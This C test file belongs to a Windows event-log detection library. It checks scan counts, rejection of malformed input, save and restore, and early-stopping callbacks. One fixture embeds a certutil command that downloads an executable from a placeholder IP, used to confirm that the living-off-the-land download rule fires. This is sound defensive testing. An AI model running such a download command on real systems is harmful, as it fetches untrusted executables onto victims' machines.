/* The scanner and detection objects from C: the example stream scanned
 * line by line, callbacks that stop early, bad input, save/restore,
 * scanners outliving their rules. Run under valgrind by tools/test-all.sh. */
#define _POSIX_C_SOURCE 200809L /* getline */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "landwatch.h"
#include "check.h"

struct seen {
    size_t count;
    size_t stop_after; /* 0: never stop */
    int certutil;
    int tagged;
};

static int on_detection(const lw_detection *d, void *user) {
    struct seen *s = user;
    s->count++;
    if (strcmp(lw_detection_rule(d), "lotl.certutil_download") == 0) {
        s->certutil = strcmp(lw_detection_level(d), "high") == 0 && strlen(lw_detection_title(d)) > 0;
    }
    if (lw_detection_tag_count(d) > 0 && lw_detection_tag(d, 0) != NULL &&
        lw_detection_tag(d, lw_detection_tag_count(d)) == NULL) {
        s->tagged = 1;
    }
    return s->stop_after != 0 && s->count >= s->stop_after;
}

/* Scans every line of `path`; returns the lines read. */
static size_t scan_file(lw_scanner *scanner, const char *path, struct seen *seen) {
    FILE *f = fopen(path, "r");
    CHECK(f != NULL);
    if (f == NULL) return 0;
    char *line = NULL;
    size_t cap = 0, lines = 0;
    ssize_t n;
    while ((n = getline(&line, &cap, f)) > 0) {
        lines++;
        CHECK(lw_scanner_scan_json(scanner, line, (size_t)n, on_detection, seen, NULL) == LW_OK);
    }
    free(line);
    fclose(f);
    return lines;
}

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: %s CORE_RULES_DIR\n", argv[0]);
        return 2;
    }
    (void)argv;
    lw_rules *rules = NULL;
    CHECK(lw_rules_builtin(&rules, NULL) == LW_OK);
    lw_scanner *scanner = NULL;
    CHECK(lw_scanner_new(rules, &scanner, NULL) == LW_OK);
    lw_rules_free(rules); /* the scanner holds its own reference */

    struct seen seen = {0};
    size_t lines = scan_file(scanner, "examples/msp-intrusion.jsonl", &seen);
    CHECK(lw_scanner_flush(scanner, on_detection, &seen, NULL) == LW_OK);
    CHECK(lines == 331);
    CHECK(seen.count == 35);
    CHECK(seen.certutil && seen.tagged);

    /* bad input: counted, an error that says why, the scanner goes on */
    static const char bad[] = "{\"EventID\": 1, \0 \"x\"}";
    lw_error *err = NULL;
    CHECK(lw_scanner_scan_json(scanner, bad, sizeof bad - 1, on_detection, &seen, &err) == LW_ERR_INPUT);
    CHECK(err != NULL && strlen(lw_error_message(err)) > 0);
    lw_error_free(err);
    err = NULL;
    static const char not_utf8[] = {'{', '"', (char)0xff, '"', ':', '1', '}'};
    CHECK(lw_scanner_scan_json(scanner, not_utf8, sizeof not_utf8, NULL, NULL, &err) == LW_ERR_INPUT);
    lw_error_free(err);
    CHECK(lw_scanner_scan_json(scanner, "[1]", 3, NULL, NULL, NULL) == LW_ERR_INPUT);
    CHECK(lw_scanner_scan_json(NULL, "{}", 2, NULL, NULL, NULL) == LW_ERR_ARG);
    CHECK(lw_scanner_scan_json(scanner, NULL, 0, NULL, NULL, NULL) == LW_ERR_ARG);

    lw_stats stats;
    lw_scanner_stats(scanner, &stats);
    CHECK(stats.read == 334 && stats.rejected == 3 && stats.scanned == 331);
    CHECK(stats.detections == 35);
    CHECK(stats.correlated == 1 && stats.no_time == 0 && stats.evicted == 0 && stats.forced == 0);

    /* the same figures as JSON, with the counts by reason and by rule */
    size_t need = lw_scanner_stats_json(scanner, NULL, 0);
    CHECK(need > 0);
    char *json = malloc(need + 1);
    CHECK(json != NULL);
    CHECK(lw_scanner_stats_json(scanner, json, need + 1) == need);
    CHECK(strlen(json) == need);
    CHECK(strstr(json, "\"read\":334,\"scanned\":331,\"rejected\":3,") == json + 1);
    CHECK(strstr(json, "\"rejected_by_reason\":{\"invalid UTF-8\":1,\"malformed JSON\":1,\"not an object\":1}") != NULL);
    CHECK(strstr(json, "\"lotl.certutil_download\":1") != NULL);
    CHECK(strstr(json, "\"correlated\":1") != NULL);
    char small[4] = {'x', 'x', 'x', 'x'};
    CHECK(lw_scanner_stats_json(scanner, small, sizeof small) == need);
    CHECK(small[3] == 0 && memcmp(small, json, 3) == 0);
    CHECK(lw_scanner_stats_json(NULL, small, sizeof small) == 0);
    free(json);

    /* save, restore, and the restored scanner goes on */
    uint8_t *buf = NULL;
    size_t len = 0;
    CHECK(lw_scanner_save(scanner, &buf, &len, NULL) == LW_OK);
    CHECK(buf != NULL && len > 0);
    lw_rules *again_rules = NULL;
    CHECK(lw_rules_builtin(&again_rules, NULL) == LW_OK);
    lw_scanner *again = NULL;
    CHECK(lw_scanner_restore(again_rules, buf, len, &again, NULL) == LW_OK);
    lw_stats restored;
    lw_scanner_stats(again, &restored);
    CHECK(restored.read == stats.read);
    lw_scanner *none = NULL;
    err = NULL;
    CHECK(lw_scanner_restore(again_rules, (const uint8_t *)"junk", 4, &none, &err) == LW_ERR_STATE);
    CHECK(none == NULL && err != NULL);
    lw_error_free(err);
    lw_buffer_free(buf, len);

    /* a callback that stops early gets no more of that call's detections */
    lw_scanner *early = NULL;
    CHECK(lw_scanner_new(again_rules, &early, NULL) == LW_OK);
    struct seen one = {0, 1, 0, 0};
    static const char certutil[] =
        "{\"EventID\":1,\"Image\":\"C:\\\\Windows\\\\System32\\\\certutil.exe\","
        "\"CommandLine\":\"certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe\"}";
    CHECK(lw_scanner_scan_json(early, certutil, strlen(certutil), on_detection, &one, NULL) == LW_OK);
    CHECK(one.count == 1);

    lw_scanner_free(early);
    lw_scanner_free(again);
    lw_rules_free(again_rules);
    lw_scanner_free(scanner);
    lw_scanner_free(NULL);
    lw_buffer_free(NULL, 0);
    if (failures) {
        fprintf(stderr, "test_scanner: %d checks failed\n", failures);
        return 1;
    }
    printf("test_scanner: ok\n");
    return 0;
}
